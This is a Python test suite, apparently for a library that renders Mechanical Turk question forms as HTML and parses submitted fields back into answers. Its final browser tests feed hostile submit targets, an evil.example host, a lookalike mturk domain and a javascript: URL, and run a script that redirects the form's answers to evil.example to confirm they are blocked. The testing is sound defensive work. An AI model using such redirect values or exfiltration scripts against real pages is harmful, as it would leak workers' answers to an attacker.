"""A form as a page: every field is there, and what they send becomes the answers again."""

import re
from collections.abc import Callable
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import attrs
import hypothesis
import pytest
import turbohtml
from hypothesis import strategies as st

import mturk_xml as mx
import strategies
from mturk_xml import content, example, question_form
from mturk_xml.documents.question_form import FileUploadAnswer, FreeTextAnswer, Question, QuestionForm, SelectionAnswer
from mturk_xml.documents.question_form_answers import Answer
from mturk_xml.web.controls import as_typed

if TYPE_CHECKING:
    from playwright.sync_api import Page

_NAMES = st.sampled_from(
    ["a", "a b", "a_b", "a|b", "a_b_2", "a_other", "Answer.a", "assignmentId", "é", "", "1", "[x]"]
)


def _renamed(form: QuestionForm, draw: st.DrawFn) -> QuestionForm:
    """Give the questions and choices of a form names that are easily taken for each other."""
    parts: list[question_form.Overview | Question] = []
    for part in form.content:
        if not isinstance(part, Question):
            parts.append(part)
            continue
        specification = part.answer_specification
        if isinstance(specification, SelectionAnswer):
            selections = [
                each.evolve(selection_identifier=draw(_NAMES)) for each in specification.selections.selections
            ]
            specification = specification.evolve(selections=specification.selections.evolve(selections=selections))
        parts.append(part.evolve(question_identifier=draw(_NAMES), answer_specification=specification))
    return form.evolve(content=parts)


@st.composite
def _forms(draw: st.DrawFn) -> QuestionForm:
    forms = [draw(strategies.structures(QuestionForm)) for _ in range(2)]
    parts = [part for form in forms for part in form.content]
    form = forms[0].evolve(namespace=question_form.NAMESPACE_2005_10_01, content=parts)
    return _renamed(form, draw) if draw(st.booleans()) else form


def _page_of(form: QuestionForm) -> str:
    return mx.to_html_question(form).html_content


@attrs.define
class _Fields:
    """The fields of one question, as a parser of HTML finds them."""

    boxes: list[tuple[str, str]] = attrs.Factory(list)
    texts: list[str] = attrs.Factory(list)
    suggested: list[str] = attrs.Factory(list)
    is_one: bool = False

    def take(self, tag: str, attributes: dict[str, Any], select: str) -> None:
        """Take a start tag; `select` is the name of the select that it stands in, empty in a datalist."""
        name, kind = attributes.get("name") or "", attributes.get("type")
        if tag == "select":
            self.is_one = "multiple" not in attributes
        elif tag == "option" and select and attributes["value"]:
            self.boxes.append((select, attributes["value"]))
        elif tag == "option" and not select:
            self.suggested.append(attributes["value"])
        elif tag == "input" and kind in {"radio", "checkbox"}:
            self.boxes.append((name, attributes["value"]))
            self.is_one = kind == "radio"
        elif tag == "textarea" or (tag == "input" and kind == "text"):
            self.texts.append(name)


def _fields(page: str) -> list[_Fields]:
    found: list[_Fields] = []
    select = ""
    for token in turbohtml.tokenize(page):
        if token.type != turbohtml.TokenType.START_TAG or token.tag is None:
            continue
        attributes: dict[str, Any] = dict(token.attrs or ())
        if attributes.get("class") == "question":
            found.append(_Fields())
        elif found:
            select = attributes["name"] if token.tag == "select" else "" if token.tag == "datalist" else select
            found[-1].take(token.tag, attributes, select)
    return found


def _answered(question: Question, fields: _Fields, draw: st.DrawFn) -> tuple[Answer, list[tuple[str, str]]]:
    """Answer a question; return the answer, and what the browser sends."""
    identifier, specification = question.question_identifier, question.answer_specification
    if isinstance(specification, FileUploadAnswer):
        assert fields == _Fields()
        return Answer(question_identifier=identifier), []
    text = draw(strategies.texts)
    if isinstance(specification, FreeTextAnswer):
        assert not fields.boxes
        (name,) = fields.texts
        return Answer(question_identifier=identifier, free_text=text), [(name, text)]
    choices = specification.selections.selections
    has_other = specification.selections.other_selection is not None
    if fields.suggested:
        return _typed(question, fields, draw, text if has_other else "")
    assert len(fields.boxes) == len(choices)
    assert len(fields.texts) == has_other
    most = 1 if fields.is_one else len(choices)
    chosen = sorted(draw(st.sets(st.sampled_from(range(len(choices))), max_size=most)))
    sent = [fields.boxes[index] for index in chosen] + [(name, text) for name in fields.texts]
    answer = Answer(
        question_identifier=identifier,
        selection_identifiers=tuple(choices[index].selection_identifier for index in chosen),
        other_selection_text=(text or None) if fields.texts else None,
    )
    return answer, sent


def _typed(question: Question, fields: _Fields, draw: st.DrawFn, text: str) -> tuple[Answer, list[tuple[str, str]]]:
    """Answer a question by typing into its combobox: one of the choices, or another text."""
    identifier, specification = question.question_identifier, question.answer_specification
    assert isinstance(specification, SelectionAnswer)
    choices = specification.selections.selections
    (name,) = fields.texts
    assert len(fields.suggested) == len(choices)
    hypothesis.assume(as_typed(text) not in map(as_typed, fields.suggested))
    index = draw(st.sampled_from([None, *range(len(choices))]))
    if index is None:
        return Answer(question_identifier=identifier, other_selection_text=text or None), [(name, text)]
    selected = (choices[index].selection_identifier,)
    return Answer(question_identifier=identifier, selection_identifiers=selected), [(name, fields.suggested[index])]


@hypothesis.given(_forms(), st.data())
def test_what_the_fields_send_becomes_the_answers(form: QuestionForm, data: st.DataObject) -> None:
    hypothesis.assume(form.questions)
    every = _fields(_page_of(form))
    answered = [
        _answered(question, fields, data.draw)  # type: ignore[arg-type]  # it is called like one
        for question, fields in zip(form.questions, every, strict=True)
    ]
    expected = mx.QuestionFormAnswers(answers=tuple(answer for answer, _ in answered))
    sent = [("assignmentId", "A1"), *(pair for _, pairs in answered for pair in pairs)]
    assert mx.answers_from_fields(form, sent) == expected
    several: dict[str, list[str]] = {}
    for name, value in sent:
        several.setdefault(f"Answer.{name}", []).append(value)
    assert mx.answers_from_fields(form, several) == expected
    joined = {name: "|".join(values) for name, values in several.items()}
    assert mx.answers_from_fields(form, joined) == expected
    assert {len(values) for name, values in several.items() if name.removeprefix("Answer.") in _text_names(every)} <= {
        1
    }
    as_service = [Answer(question_identifier=name[7:], free_text=value) for name, value in joined.items()]
    assert mx.answers_from_fields(form, mx.QuestionFormAnswers(answers=tuple(as_service))) == expected


def _text_names(every: list[_Fields]) -> set[str]:
    return {name for fields in every for name in fields.texts}


@hypothesis.given(_forms())
def test_our_own_rules_find_nothing_in_a_page(form: QuestionForm) -> None:
    report = mx.check(mx.to_html_question(form).to_bytes())
    assert [str(found) for found in report.diagnostics if found.code.startswith("HQ")] == []


def test_the_example() -> None:
    form = QuestionForm.from_xml(example.path("form.xml"))
    made = mx.to_html_question(form, frame_height=500)
    assert made.frame_height == 500
    assert mx.check(made.to_bytes()).diagnostics == ()


def _form(
    specification: FreeTextAnswer | SelectionAnswer | FileUploadAnswer, *, is_required: bool | None = None
) -> QuestionForm:
    question = Question(
        question_identifier="q",
        question_content=(content.Text(text="?"),),
        answer_specification=specification,
        is_required=is_required,
    )
    return QuestionForm(content=(question,), namespace=question_form.NAMESPACE_2005_10_01)


_CHOICES = question_form.Selections(
    selections=tuple(
        question_form.Selection(selection_identifier=name, content=content.Text(text=name)) for name in ("a", "b", "c")
    ),
)


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"q": "d"}, "the field 'q' has no choice 'd'; it has 'a', 'b', 'c'"),
        ({"q": "a|d"}, "has no choice 'd'"),
    ],
)
def test_a_value_that_is_no_choice(fields: dict[str, str], message: str) -> None:
    with pytest.raises(mx.InvalidValueError, match=re.escape(message)):
        mx.answers_from_fields(_form(SelectionAnswer(selections=_CHOICES)), fields)


def test_a_text_that_came_twice_and_one_that_did_not_come() -> None:
    form = _form(FreeTextAnswer())
    with pytest.raises(mx.InvalidValueError, match="the field 'q' was sent 2 times, and holds a text"):
        mx.answers_from_fields(form, [("q", "1"), ("q", "2")])
    nothing = mx.QuestionFormAnswers(answers=(Answer(question_identifier="q"),))
    assert mx.answers_from_fields(form, {"q": None, "else": "x"}) == nothing


# --- in a browser ------------------------------------------------------------------------------


@pytest.fixture
def sent(page: "Page", every_control: QuestionForm) -> Callable[[str], list[Any]]:
    """Open the page with a query; return its state, where it would send, and what, without sending it."""
    html = mx.to_html_question(every_control).html_content
    page.route("http://localhost/**", lambda route: route.fulfill(content_type="text/html", body=html))

    def sent(query: str) -> list[Any]:
        page.goto(f"http://localhost/?{query}")
        page.locator("#q1-field").fill("42")
        found: list[Any] = page.evaluate(
            """[document.getElementById("submit").disabled, document.getElementById("preview").hidden,
            document.getElementById("answers").getAttribute("action"),
            Array.from(new FormData(document.getElementById("answers")))]"""
        )
        return found

    return sent


@pytest.mark.needs_browser
def test_where_the_answers_go(sent: Callable[[str], list[Any]], every_control: QuestionForm) -> None:
    *state, fields = sent("assignmentId=A1&turkSubmitTo=https%3A%2F%2Fworkersandbox.mturk.com%2F")
    assert state == [False, True, "https://workersandbox.mturk.com/mturk/externalSubmit"]
    assert fields[0] == ["assignmentId", "A1"]
    answers = mx.answers_from_fields(every_control, map(tuple, fields)).answers
    assert answers[0] == Answer(question_identifier="age", free_text="42")
    for to in (
        "https://evil.example",
        "http://www.mturk.com",
        "https://mturk.com.evil.example",
        "javascript:x()//mturk.com",
    ):
        *state, _ = sent(f"assignmentId=ASSIGNMENT_ID_NOT_AVAILABLE&turkSubmitTo={quote(to, safe='')}")
        assert state == [True, False, "https://www.mturk.com/mturk/externalSubmit"]


@pytest.mark.needs_browser
def test_nothing_is_sent_elsewhere(page: "Page", sent: Callable[[str], list[Any]]) -> None:
    sent("assignmentId=A1")
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.evaluate("""const form = document.getElementById("answers");
        form.setAttribute("action", "https://evil.example/"); HTMLFormElement.prototype.submit.call(form)""")
